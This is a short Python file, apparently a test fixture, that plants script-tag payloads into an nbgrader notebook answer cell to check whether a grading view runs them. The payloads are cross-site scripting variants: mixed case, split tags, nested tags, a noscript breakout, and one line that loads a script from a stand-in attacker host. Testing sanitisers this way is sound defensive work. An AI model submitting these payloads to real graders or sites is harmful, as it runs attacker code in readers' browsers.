"""Writes script elements in several spellings into the answer: they would run when the answer is read."""

import json

ANSWER = r"""\
<script>attacked()</script>
<ScRiPt/x>attacked()</sCrIpT >
<script src=//attacker.example/a.js></script>
<script type="text/x-mathjax-config">attacked()</script>
<<script>script>attacked()<</script>/script>
Text <script
>attacked()</script
> and <noscript><p title="</noscript><script>attacked()</script>">
"""


def hand_in(folder, blank, solved):
    folder.mkdir(parents=True, exist_ok=True)
    for cell in blank["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "explain_relu":
            cell["source"] = ANSWER
    (folder / "residual_block.ipynb").write_text(json.dumps(blank))
